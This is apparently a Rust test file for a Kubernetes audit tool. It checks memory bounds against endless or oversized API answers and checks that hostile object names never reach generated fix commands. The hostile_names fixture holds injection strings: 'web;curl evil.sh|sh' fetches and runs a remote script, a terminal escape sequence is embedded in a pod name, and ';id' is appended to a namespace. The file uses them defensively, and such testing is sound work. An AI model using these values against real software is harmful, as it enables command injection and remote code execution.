//! Hostile API servers: lists that never end and answers far too large. The audit reports a
//! `CannotRead` finding naming the bound it kept, and its peak RSS stays under the 64 MB
//! (the CronJob's limit is 128Mi). Each test runs one child, so `getrusage(RUSAGE_CHILDREN)`
//! after it exits is the audit's own peak.

use testkit::kube_cluster::objects::{self, Injected};
use testkit::kube_cluster::{Endless, KubeCluster};

use crate::helpers::{Mode, Run, audit_json, clean_cluster};

/// The bound on the audit's peak RSS.
const PEAK_RSS_KB: i64 = 64 * 1024;

fn peak_rss_of_children_kb() -> i64 {
    // SAFETY: getrusage writes into the struct we hand it.
    let mut usage: libc::rusage = unsafe { std::mem::zeroed() };
    unsafe { libc::getrusage(libc::RUSAGE_CHILDREN, &mut usage) };
    usage.ru_maxrss
}

fn pods(cluster: &KubeCluster, count: usize) {
    for i in 0..count {
        cluster.add(objects::pod(
            "payments",
            &format!("pod-{i:03}"),
            "reports-reader",
            true,
            None,
            &Injected::No,
        ));
    }
}

fn cannot_read_pods(run: &Run) -> String {
    let found = run.with_code("CannotRead");
    let pods = found
        .iter()
        .find(|f| f["object"]["name"] == "pods")
        .unwrap_or_else(|| panic!("no CannotRead for pods: {}\nstderr: {}", run.stdout, run.stderr));
    pods["message"].as_str().unwrap().to_owned()
}

fn assert_bounded(run: &Run) {
    let peak = peak_rss_of_children_kb();
    eprintln!("the audit's peak RSS: {peak} KB");
    assert!(peak > 0, "getrusage gave no peak");
    assert!(
        peak < PEAK_RSS_KB,
        "peak RSS {peak} KB, over {PEAK_RSS_KB} KB\nstderr: {}",
        run.stderr
    );
    assert!(!run.stderr.contains("panicked"), "{}", run.stderr);
}

#[tokio::test]
async fn a_continue_token_answered_twice_ends_the_list_with_a_finding() {
    let cluster = clean_cluster(Mode::Gsa).await;
    pods(&cluster, 500);
    cluster.endless_pods(Endless::Repeat);
    let dir = tempfile::tempdir().unwrap();
    let run = audit_json(&cluster, dir.path(), &["--page-size", "500"]).await;
    let message = cannot_read_pods(&run);
    assert!(message.contains("a second time"), "{message}");
    // The first page, then the repeat: two requests, not hundreds.
    assert_eq!(cluster.requests("/api/v1/pods"), 2);
    assert_bounded(&run);
}

#[tokio::test]
async fn a_list_that_never_ends_stops_at_the_cap_on_items() {
    let cluster = clean_cluster(Mode::Gsa).await;
    pods(&cluster, 500);
    cluster.endless_pods(Endless::Fresh);
    let dir = tempfile::tempdir().unwrap();
    let run = audit_json(&cluster, dir.path(), &["--page-size", "5000"]).await;
    let message = cannot_read_pods(&run);
    // Every pod the list gives opted in, so every one is kept: the cap on what a list keeps
    // (30,000) ends it before the cap on what it reads (150,000), at the 7th page of 5,000.
    assert!(message.contains("more than 30000 items the audit judges"), "{message}");
    assert!(message.contains("the audit's cap on what one list keeps"), "{message}");
    assert_eq!(cluster.requests("/api/v1/pods"), 7);
    assert_bounded(&run);
}

#[tokio::test]
async fn empty_pages_that_never_end_stop_at_the_cap_on_pages() {
    // No pod at all: every page is empty, only the cap on pages ends the list.
    let cluster = KubeCluster::start().await;
    cluster.endless_pods(Endless::Fresh);
    let dir = tempfile::tempdir().unwrap();
    let run = audit_json(&cluster, dir.path(), &["--page-size", "5000"]).await;
    let message = cannot_read_pods(&run);
    assert!(message.contains("did not end within 31 pages"), "{message}");
    assert_bounded(&run);
}

#[tokio::test]
async fn answers_far_too_large_are_findings_and_never_all_in_memory_at_once() {
    let cluster = clean_cluster(Mode::Gsa).await;
    pods(&cluster, 5);
    // Every list (pods, KSAs, five workload kinds, webhooks) answers 30 MB.
    cluster.pad_answers(30 * 1024 * 1024);
    let dir = tempfile::tempdir().unwrap();
    let run = audit_json(&cluster, dir.path(), &[]).await;
    let message = cannot_read_pods(&run);
    assert!(message.contains("at most 8388608 bytes"), "{message}");
    assert!(run.with_code("CannotRead").len() >= 7, "{}", run.stdout);
    assert_bounded(&run);
}

/// Names no API server accepts, as something answering in its place might send them.
fn hostile_names(cluster: &KubeCluster) {
    let evil = "web;curl evil.sh|sh";
    cluster.add(objects::workload("Deployment", "payments", evil, true, false, None));
    cluster.add(objects::workload(
        "ReplicaSet",
        "payments",
        "web-7f9c",
        false,
        true,
        Some(("Deployment", evil)),
    ));
    cluster.add(objects::pod(
        "payments",
        "web-7f9c-abcde",
        "reports-reader",
        true,
        Some(("ReplicaSet", "web-7f9c")),
        &Injected::No,
    ));
    cluster.add(objects::pod(
        "payments",
        "missed-\u{1b}]0;pwned\u{7}",
        "reports-reader",
        true,
        None,
        &Injected::No,
    ));
    cluster.add(objects::pod(
        "team --all-namespaces;id",
        "lost",
        "reports-reader",
        true,
        None,
        &Injected::No,
    ));
}

#[tokio::test]
async fn names_no_api_server_accepts_become_findings_never_commands() {
    let cluster = clean_cluster(Mode::Gsa).await;
    hostile_names(&cluster);
    let dir = tempfile::tempdir().unwrap();
    let run = audit_json(&cluster, dir.path(), &[]).await;
    let cannot: Vec<String> = run
        .with_code("CannotRead")
        .iter()
        .map(|f| f["message"].as_str().unwrap().to_owned())
        .collect();
    // The Deployment, the ReplicaSet it owns, the pod with an escape, the pod in a bad namespace.
    assert_eq!(cannot.len(), 4, "{cannot:#?}");
    assert!(cannot.iter().any(|m| m.contains("is not a DNS label")), "{cannot:#?}");
    for finding in run.findings() {
        let fix = finding["fix"].as_str().unwrap();
        for bad in ["evil", "pwned", "\u{1b}", "--all-namespaces;id"] {
            assert!(!fix.contains(bad), "a fix carries {bad:?}: {fix}");
        }
    }
    // The valid pod under the skipped ReplicaSet is still audited, with a fix of its own names.
    let missed = run.with_code("NotInjected");
    assert!(
        missed
            .iter()
            .any(|f| f["fix"].as_str().unwrap().contains("web-7f9c-abcde")),
        "{}",
        run.stdout
    );

    let kubeconfig = cluster.kubeconfig(dir.path(), "stand-in");
    let text = crate::helpers::audit(&kubeconfig, &[]).await;
    assert!(text.stdout.contains("CannotRead"), "{}", text.stdout);
    assert!(
        !text.stdout.chars().any(|c| c.is_control() && c != '\n'),
        "the table carries control characters: {:?}",
        text.stdout
    );
}
